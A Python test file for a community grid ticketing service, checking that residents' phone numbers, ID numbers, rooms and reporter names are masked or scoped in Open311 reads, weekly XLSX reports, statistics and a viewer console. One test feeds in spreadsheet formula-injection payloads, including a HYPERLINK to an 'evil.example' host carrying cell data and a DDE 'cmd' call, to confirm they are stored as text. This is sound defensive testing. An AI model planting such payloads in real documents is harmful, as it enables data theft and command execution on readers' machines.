"""Issue #21, public surfaces: what the public, viewers and report readers get of residents' details, over HTTP on
both databases. Open311 reads are masked and can be closed with a key; the weekly XLSX opens safely in a spreadsheet
(no formula from residents' text), is masked for everyone but admins and scoped to a worker's own grids, as are the
statistics; the console shows a viewer no reporter. Needs no Rasa: nothing here goes through the chat.
"""

from __future__ import annotations

import io
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from sqlalchemy.orm import Session, sessionmaker

from bot.embedded import app_server, free_port
from bot.settings import Settings
from grid.clock import LOCAL_TZ
from grid.service import TicketService
from grid.stats import iso_week
from grid.tickets import Ticket
from storage.engine import unit_of_work
from tests.accounts import headers_for

Factory = sessionmaker[Session]
KEY = "public-privacy-key"
PHONE, PHONE_MASKED = "13812345678", "138****5678"
ID_CARD, ID_CARD_MASKED = "11010119900307123X", "110***********123X"
ACCOUNTS = ("admin", "viewer", "worker-4", "lead-2")  # lead-2 leads 和平社区: grid-3 and grid-4


@pytest.fixture(scope="module")
def base_url(database_url: str) -> Iterator[str]:
    settings = Settings(database_url=database_url, rasa_url="http://127.0.0.1:9", app_port=free_port(), open311_api_keys=KEY)
    with app_server(settings) as url:
        yield url


@pytest.fixture(scope="module")
def clients(base_url: str, session_factory: Factory) -> Iterator[dict[str, httpx.Client]]:
    made = {name: httpx.Client(base_url=base_url, timeout=30, headers=headers_for(session_factory, name)) for name in ACCOUNTS}
    yield made
    for client in made.values():
        client.close()


def _tag() -> str:
    """A place name no other test uses, without digits, so masking leaves it as it is."""
    return "".join(chr(ord("a") + int(c, 16)) for c in uuid.uuid4().hex[:8])


def _file(factory: Factory, grid: str, description: str, location: str, *, again: bool = False) -> str:
    with unit_of_work(factory) as session:
        filing = TicketService(session).file_report(
            group_id=None,
            grid_code=grid,
            reporter_id=f"wxid_{_tag()}",
            reporter_name="居民王小明",
            description=description,
            location=location,
            duplicate_window=timedelta(0) if again else timedelta(hours=72),
        )
        assert not filing.duplicate
        return filing.ticket.number


def _stored(factory: Factory, number: str) -> Ticket:
    with factory() as session:
        ticket = TicketService(session).get(number)
        session.expunge(ticket)
        return ticket


def _workbook(client: httpx.Client, **params: str) -> Workbook:
    response = client.get("/api/v1/reports/weekly", params={"week": iso_week(datetime.now(LOCAL_TZ).date()), **params})
    assert response.status_code == 200, response.text
    return load_workbook(io.BytesIO(response.content))


def _ticket_rows(book: Workbook) -> dict[str, tuple[Any, ...]]:
    return {row[0]: row for row in book["工单明细"].iter_rows(min_row=2, values_only=True)}


def _georeport_error(response: httpx.Response, status: int) -> str:
    assert response.status_code == status, response.text
    [error] = response.json()
    assert error["code"] == status and error["description"]
    return str(error["description"])


# -- Open311 reads ---------------------------------------------------------------------------------------


def test_open311_reads_show_no_phone_id_or_room(base_url: str, session_factory: Factory) -> None:
    """The issue's example: a hotline request with a phone in the description and a room in the address."""
    tag = _tag()
    form = {
        "api_key": KEY,
        "service_code": "property",
        "description": f"楼道灯坏了，电话{PHONE}，身份证{ID_CARD}",
        "address_string": f"{tag}小区3单元502室",
        "attribute[grid]": "grid-1",
        "phone": PHONE,
        "first_name": "三",
        "last_name": "张",
    }
    with httpx.Client(base_url=f"{base_url}/open311/v2", timeout=30) as api:
        created = api.post("/requests.json", data=form)
        assert created.status_code == 201, created.text
        number = created.json()[0]["service_request_id"]
        with unit_of_work(session_factory) as session:
            service = TicketService(session)
            service.resolve(number, service.actor_for("worker-1"), "已修好，住户13987654321确认过")
        [one] = api.get(f"/requests/{number}.json").json()
        [listed] = [r for r in api.get("/requests.json").json() if r["service_request_id"] == number]
    for shown in (one, listed):
        assert shown["description"] == f"楼道灯坏了，电话{PHONE_MASKED}，身份证{ID_CARD_MASKED}"
        assert shown["address"] == f"{tag}小区3单元***室"
        assert shown["status_notes"] == "已修好，住户139****4321确认过"
        assert shown["service_request_id"] == number  # GD…-0001 is never masked
        flat = str(shown)
        assert PHONE not in flat and "13987654321" not in flat and "502" not in flat and "张三" not in flat
    stored = _stored(session_factory, number)  # the ticket keeps everything for its worker
    assert PHONE in stored.description and ID_CARD in stored.description and stored.location.endswith("502室")


def test_open311_reads_can_require_a_key(database_url: str) -> None:
    settings = Settings(
        database_url=database_url,
        rasa_url="http://127.0.0.1:9",
        app_port=free_port(),
        open311_api_keys=KEY,
        open311_read_requires_key=True,
    )
    with app_server(settings) as url, httpx.Client(base_url=f"{url}/open311/v2", timeout=30) as api:
        for path in ("/services.json", "/requests.json", "/requests/GD20260101-0001.json"):
            assert "api_key is missing" in _georeport_error(api.get(path), 403), path
            assert "invalid api_key" in _georeport_error(api.get(path, params={"api_key": "wrong"}), 403), path
        assert api.get("/services.json", params={"api_key": KEY}).status_code == 200
        assert api.get("/requests.json", params={"api_key": KEY}).status_code == 200
        assert "not found" in _georeport_error(api.get("/requests/GD20260101-0001.json", params={"api_key": KEY}), 404)


def test_open311_reads_refused_when_they_need_a_key_and_none_is_configured(database_url: str) -> None:
    settings = Settings(
        database_url=database_url, rasa_url="http://127.0.0.1:9", app_port=free_port(), open311_read_requires_key=True
    )
    with app_server(settings) as url:
        response = httpx.get(f"{url}/open311/v2/requests.json", params={"api_key": "anything"})
    assert "reading requests is disabled" in _georeport_error(response, 403)


# -- the weekly report -----------------------------------------------------------------------------------


def test_report_cells_never_become_formulas(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    tag = _tag()
    numbers = [
        _file(session_factory, "grid-1", '=HYPERLINK("http://evil.example/?"&A1,"点我")楼道灯坏了', f"={tag}"),
        _file(session_factory, "grid-1", "@SUM(1+1)*cmd|' /C calc'!A0 电梯坏了", f"+{tag}一号楼"),
        _file(session_factory, "grid-1", "-2+3 路灯坏了", f"-{tag}二号楼"),
    ]
    book = _workbook(clients["admin"])
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    sheet = book["工单明细"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for number in numbers:
        stored = _stored(session_factory, number)
        location, description = cells[number][5], cells[number][6]
        assert (location.value, location.data_type) == ("'" + stored.location, "s")
        assert (description.value, description.data_type) == ("'" + stored.description, "s")
    figures = {row[0]: row[1] for row in book["概览"].iter_rows(min_row=6, values_only=True)}
    assert isinstance(figures["受理工单"], int) and figures["受理工单"] >= 3  # numbers stay numbers
    assert all(isinstance(count, int) for _, count in book["分类"].iter_rows(min_row=2, values_only=True))


def test_report_is_masked_for_all_but_admins(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    place = f"{_tag()}小区5栋1202"
    description = f"楼道灯坏了，电话{PHONE}，身份证{ID_CARD}"
    first = _file(session_factory, "grid-4", description, place)
    second = _file(session_factory, "grid-4", "楼道灯又坏了", place, again=True)  # a recurring problem at a room

    admin = _ticket_rows(_workbook(clients["admin"]))
    assert (admin[first][5], admin[first][6]) == (place, description)
    masked_place = place.replace("1202", "****")
    for name in ("viewer", "worker-4", "lead-2"):
        book = _workbook(clients[name])
        rows = _ticket_rows(book)
        assert rows[first][5] == masked_place, name
        assert rows[first][6] == f"楼道灯坏了，电话{PHONE_MASKED}，身份证{ID_CARD_MASKED}", name
        assert second in rows, name
        recurring = [row for row in book["高发问题"].iter_rows(min_row=2, values_only=True) if masked_place in str(row[2])]
        assert recurring and recurring[0][3] == 2, name
        everything = " ".join(str(v) for sheet in book for row in sheet.iter_rows(values_only=True) for v in row)
        assert PHONE not in everything and "1202" not in everything and "王小明" not in everything, name


def test_report_gives_workers_their_own_grids_only(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    tag = _tag()
    in_grid = {grid: _file(session_factory, grid, "路灯坏了", f"{tag}{grid}路口") for grid in ("grid-1", "grid-3", "grid-4")}

    worker = _ticket_rows(_workbook(clients["worker-4"]))
    assert in_grid["grid-4"] in worker and in_grid["grid-1"] not in worker and in_grid["grid-3"] not in worker
    assert {row[1] for row in worker.values()} == {"grid-4"}
    lead = _ticket_rows(_workbook(clients["lead-2"]))
    assert in_grid["grid-3"] in lead and in_grid["grid-4"] in lead and in_grid["grid-1"] not in lead
    assert {row[0] for row in _workbook(clients["worker-4"])["网格"].iter_rows(min_row=2, values_only=True)} == {"grid-4"}
    assert set(_ticket_rows(_workbook(clients["admin"]))) >= set(in_grid.values())
    assert set(_ticket_rows(_workbook(clients["viewer"]))) >= set(in_grid.values())

    refused = clients["worker-4"].get("/api/v1/reports/weekly", params={"grid": "grid-1"})
    assert refused.status_code == 403 and refused.json()["detail"]["code"] == "grid_not_yours"
    tickets_api = clients["worker-4"].get("/api/v1/tickets", params={"grid": "grid-1"})
    assert tickets_api.status_code == 403 and tickets_api.json()["detail"] == refused.json()["detail"]
    assert clients["lead-2"].get("/api/v1/reports/weekly", params={"grid": "grid-1"}).status_code == 403
    own = _ticket_rows(_workbook(clients["lead-2"], grid="grid-3"))
    assert in_grid["grid-3"] in own and in_grid["grid-4"] not in own


# -- statistics ------------------------------------------------------------------------------------------


def test_stats_give_workers_their_own_grids_only(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    _file(session_factory, "grid-1", "路灯坏了", f"{_tag()}路口")
    admin_by_grid = {g["grid_code"]: g["count"] for g in clients["admin"].get("/api/v1/stats").json()["by_grid"]}

    worker = clients["worker-4"].get("/api/v1/stats").json()
    assert [g["grid_code"] for g in worker["by_grid"]] == ["grid-4"] and worker["grids"] == ["grid-4"]
    assert worker["total"] == admin_by_grid["grid-4"] < sum(admin_by_grid.values())
    lead = clients["lead-2"].get("/api/v1/stats").json()
    assert sorted(g["grid_code"] for g in lead["by_grid"]) == ["grid-3", "grid-4"]
    assert lead["total"] == admin_by_grid["grid-3"] + admin_by_grid["grid-4"]
    assert clients["worker-4"].get("/api/v1/stats", params={"grid": "grid-4"}).json()["total"] == worker["total"]

    refused = clients["worker-4"].get("/api/v1/stats", params={"grid": "grid-1"})
    assert refused.status_code == 403 and refused.json()["detail"]["code"] == "grid_not_yours"
    viewer = clients["viewer"].get("/api/v1/stats").json()
    assert viewer["grids"] is None and {g["grid_code"] for g in viewer["by_grid"]} >= {"grid-1", "grid-4"}


def test_stats_mask_recurring_places_for_all_but_admins(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    place = f"{_tag()}小区3号楼2单元301室"
    for _ in range(2):
        _file(session_factory, "grid-4", "楼道灯坏了", place, again=True)

    def places(name: str) -> set[str]:
        return {r["location"] for r in clients[name].get("/api/v1/stats").json()["recurring_by_grid"]}

    assert place in places("admin")
    for name in ("viewer", "worker-4"):
        shown = places(name)
        assert place.replace("301", "***") in shown and place not in shown, name


# -- the console, for a viewer ---------------------------------------------------------------------------


def test_console_shows_a_viewer_no_reporter_and_no_id_number(clients: dict[str, httpx.Client], session_factory: Factory) -> None:
    number = _file(session_factory, "grid-4", f"楼道灯坏了，身份证{ID_CARD}，物业电话0571-88886666", f"{_tag()}小区")
    stored = _stored(session_factory, number)

    seen = clients["viewer"].get(f"/api/v1/tickets/{number}").json()
    assert seen["description"] == f"楼道灯坏了，身份证{ID_CARD_MASKED}，物业电话0571-****6666"
    assert seen["reporter_name"] == "居****" and seen["reporter_id"] != stored.reporter_id
    assert stored.reporter_id not in str(seen)
    listed = next(t for t in clients["viewer"].get("/api/v1/tickets", params={"grid": "grid-4"}).json() if t["number"] == number)
    assert (listed["reporter_id"], listed["reporter_name"]) == (seen["reporter_id"], seen["reporter_name"])

    handler = clients["worker-4"].get(f"/api/v1/tickets/{number}").json()  # the grid's worker goes to the door
    assert (handler["description"], handler["reporter_id"], handler["reporter_name"]) == (
        stored.description,
        stored.reporter_id,
        stored.reporter_name,
    )
